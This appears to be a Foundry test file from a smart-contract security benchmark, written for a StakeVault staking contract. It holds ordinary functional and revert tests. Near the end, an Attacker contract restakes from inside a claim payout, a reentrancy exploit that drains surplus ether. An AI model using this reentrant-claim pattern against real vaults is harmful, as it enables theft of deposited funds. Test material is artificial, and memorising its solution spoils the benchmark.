// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./StakeVault.sol";

// assay-canary-64fc9225-d126-48fa-b55c-92271417b78b

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

/// Deposits, and calls the vault again when it is paid.
contract Caller {
    StakeVault private vault;
    bytes private again;
    uint256 private value;

    constructor(StakeVault _vault) public payable {
        vault = _vault;
        _vault.deposit{value: msg.value}();
    }

    function set(bytes calldata _again, uint256 _value) external {
        again = _again;
        value = _value;
    }

    function claim() external {
        vault.claim(address(this));
    }

    function withdraw() external {
        vault.withdraw(1 ether);
    }

    receive() external payable {
        (bool ok, bytes memory data) = address(vault).call{value: value}(again);
        if (!ok) {
            assembly {
                revert(add(data, 32), mload(data))
            }
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address payable private constant ANA = address(0xA9A);
    address payable private constant BEN = address(0xBE9);
    address private constant GOVERNANCE = address(0x60);
    address private constant STRATEGIST = address(0x57);
    uint256 private constant START = 1_600_000_000;
    uint256 private constant WEEK = 604_800;

    StakeVault private vault;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.prank(GOVERNANCE);
        vault = new StakeVault(STRATEGIST);
        vm.deal(ANA, 40 ether);
        vm.prank(ANA);
        vault.deposit{value: 20 ether}();
        vm.deal(STRATEGIST, 40 * WEEK * 1e13);
        vm.prank(STRATEGIST);
        vault.notify{value: 2 * WEEK * 1e13}();
        mallory = new Attacker(vault);
        vm.deal(address(mallory), 60 ether);
    }

    function test_Regular() public {
        require(vault.rate() == 2e13 && vault.left() == WEEK, "notified");
        vm.warp(START + WEEK / 2);
        require(vault.earned(ANA) == WEEK * 1e13, "half");
        vm.deal(BEN, 20 ether);
        vm.prank(BEN);
        vault.deposit{value: 20 ether}();
        vm.warp(START + WEEK);
        vm.prank(ANA);
        vault.claim(BEN);
        require(BEN.balance == WEEK * 1.5e13 && vault.owed(ANA) == 0, "claimed");
        vm.startPrank(BEN);
        vault.restake();
        require(vault.balanceOf(BEN) == 20 ether + WEEK * 0.5e13, "restaked");
        vault.transfer(ANA, 10 ether);
        vault.approve(ANA, 5 ether);
        vm.stopPrank();
        vm.startPrank(ANA);
        vault.transferFrom(BEN, ANA, 5 ether);
        vault.increaseAllowance(BEN, 2);
        vault.decreaseAllowance(BEN, 1);
        vault.withdraw(35 ether);
        vm.stopPrank();
        require(ANA.balance == 55 ether && vault.totalSupply() == 5 ether + WEEK * 0.5e13, "withdrawn");
        vm.prank(STRATEGIST);
        vault.notify{value: WEEK * 1e13}();
        uint256 rest = vault.balanceOf(BEN);
        vm.prank(BEN);
        vault.withdraw(rest);
        vm.warp(START + 2 * WEEK);
        require(vault.earned(BEN) == 0 && vault.left() == WEEK, "waits");
        vm.prank(ANA);
        vault.deposit{value: 1 ether}();
        vm.warp(START + 4 * WEEK);
        vm.prank(ANA);
        vault.restake();
        rest = vault.balanceOf(ANA);
        require(rest == 1 ether + WEEK * 1e13, "streamed");
        vm.prank(ANA);
        vault.withdraw(rest);
        require(address(vault).balance == 0, "all out");
        vm.startPrank(GOVERNANCE);
        vault.setStrategist(BEN);
        vault.setGovernance(ANA);
        vm.stopPrank();
        require(vault.strategist() == BEN && vault.governance() == ANA, "roles");
    }

    function test_RefusesUsers() public {
        vm.startPrank(BEN);
        vm.expectRevert("!value");
        vault.deposit();
        vm.expectRevert("!amount");
        vault.withdraw(0);
        vm.expectRevert("!owed");
        vault.claim(BEN);
        vm.expectRevert("!owed");
        vault.restake();
        vm.expectRevert();
        vault.withdraw(1);
        vm.expectRevert("!strategist");
        vault.notify();
        vm.expectRevert("!governance");
        vault.setStrategist(BEN);
        vm.expectRevert("!governance");
        vault.setGovernance(BEN);
        vm.stopPrank();
        vm.deal(STRATEGIST, 2 * WEEK);
        StakeVault empty = new StakeVault(STRATEGIST);
        vm.prank(STRATEGIST);
        vm.expectRevert("!rate");
        empty.notify{value: WEEK - 1}();
        vm.prank(STRATEGIST);
        empty.notify{value: WEEK}();
    }

    function test_RefusesCallers() public {
        vm.deal(address(this), 10 ether);
        Caller caller = new Caller{value: 4 ether}(vault);
        vm.warp(START + WEEK);
        caller.set(abi.encodeWithSelector(vault.withdraw.selector, 1 ether), 0);
        vm.expectRevert();
        caller.withdraw();
        vm.expectRevert();
        caller.claim();
        caller.set(abi.encodeWithSelector(vault.deposit.selector), 1);
        vm.expectRevert();
        caller.withdraw();
        caller.set(abi.encodeWithSelector(vault.claim.selector, BEN), 0);
        vm.expectRevert();
        caller.withdraw();
        vm.expectRevert();
        caller.claim();
        caller.set(abi.encodeWithSelector(vault.transfer.selector, BEN, 1 ether), 0);
        caller.withdraw();
        caller.claim();
    }

    function exploit() public {
        mallory.enter();
        vm.warp(START + WEEK);
        mallory.leave();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 60 ether + 15 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    StakeVault private vault;
    bool private claiming;

    constructor(StakeVault _vault) public {
        vault = _vault;
    }

    function enter() external {
        vault.deposit{value: 60 ether}();
    }

    function leave() external {
        claiming = true;
        vault.claim(address(this));
        claiming = false;
        vault.withdraw(vault.balanceOf(address(this)));
    }

    receive() external payable {
        if (claiming) vault.restake();
    }
}
